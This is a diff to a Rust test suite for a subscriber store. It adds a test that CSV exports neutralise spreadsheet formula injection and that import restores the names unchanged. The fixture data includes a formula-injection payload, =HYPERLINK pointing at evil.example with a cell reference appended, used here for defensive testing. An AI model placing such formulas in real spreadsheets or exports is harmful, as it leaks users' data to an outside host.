@@ -186,6 +186,26 @@ on_both! {
         assert!(report.refused[0].reason.contains("cannot be read"), "{:?}", report.refused);
     }
 
+    async fn no_cell_of_an_export_is_a_formula_and_each_comes_back_as_it_was(store: TestStore) {
+        let (here, _clock) = subscribers(&store, URL).await;
+        for (at, name) in ["=HYPERLINK(\"http://evil.example/?\"&A1)", "'=1+1", "+44 Ann", "'Ann", "-"].iter().enumerate() {
+            confirmed(&here, &format!("={at}|x@northfold.example"), &["weekly"]).await;
+            execute(&store, &format!("update subscribers set name = '{}' where email like '={at}%'", name.replace('\'', "''"))).await;
+        }
+        let csv = export(&here).await;
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        for record in reader.records() {
+            let record = record.unwrap();
+            assert!(!record.iter().any(|cell| cell.starts_with(['=', '+', '-', '@'])), "{record:?}");
+        }
+        let other = TestStore::sqlite().await;
+        let (there, _clock) = subscribers(&other, URL).await;
+        assert_eq!(import(&other, &there, &csv).await.added, 5);
+        let people = "select email || ' ' || name from subscribers order by email";
+        assert_eq!(text(&other, people).await, text(&store, people).await);
+        assert!(text(&other, people).await.starts_with("=0|x@northfold.example =HYPERLINK("));
+    }
+
     async fn nothing_in_a_file_begins_in_the_future(store: TestStore) {
         let (here, clock) = subscribers(&store, URL).await;
         let file = "email,state,subscriptions,suppressed\nann@northfold.example,bounced,weekly=*,bounced 2099-01-01T00:00:00Z\n\
@@ -222,7 +242,7 @@ fn person() -> impl Strategy<Value = String> {
     let topics = prop::sample::select(vec!["*", "news", "features,news", "gardening"]);
     let digest = prop::sample::select(vec!["weekly", "jobs", "long-gone"]);
     let subscriptions = prop::collection::btree_map(digest, (have, topics, 0_i64..1_000_000_000_000), 1..4);
-    let name = "[\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{0,9}( [\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{1,9})?";
+    let name = "('{0,2}[=+@-])?[\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{0,9}( [\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{1,9})?";
     let suppressed =
         prop::sample::select(vec!["", "manual 2026-01-02T03:04:05.006Z by \"phone\"", "bounced 2026-01-02T03:04:05Z"]);
     let locale = prop::sample::select(vec!["", "de", "en-US"]);
